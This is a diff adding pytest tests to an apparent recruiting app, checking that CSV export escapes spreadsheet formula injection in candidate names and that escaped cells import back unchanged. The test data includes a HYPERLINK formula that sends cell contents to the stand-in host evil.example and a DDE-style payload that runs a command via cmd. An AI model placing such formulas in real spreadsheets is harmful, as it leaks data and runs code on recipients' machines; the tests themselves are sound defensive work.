@@ -416,6 +416,30 @@ def test_an_exported_file_imports_back_without_changes(recruiter_client, recruit
     assert [t.name for t in lovelace.tags.all()] == ["safety"]
 
 
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize("name", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"])
+def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(recruiter_client, name):
+    CandidateFactory(name=name, email="x@example.org")
+
+    [row] = export(recruiter_client)
+
+    assert row["name"] == "'" + name
+
+
+def test_an_escaped_cell_imports_back_as_it_was(recruiter_client, recruiter):
+    CandidateFactory(name=HOSTILE, email="x@example.org", owner=recruiter)
+    before = snapshot()
+    rows = export(recruiter_client)
+
+    previewed = preview(recruiter_client, to_csv(*rows, columns=list(rows[0])))
+    confirm(recruiter_client, previewed)
+
+    assert snapshot() == before
+    assert Candidate.objects.get().name == HOSTILE
+
+
 # --- Who may import and export -------------------------------------------------------------
 
 
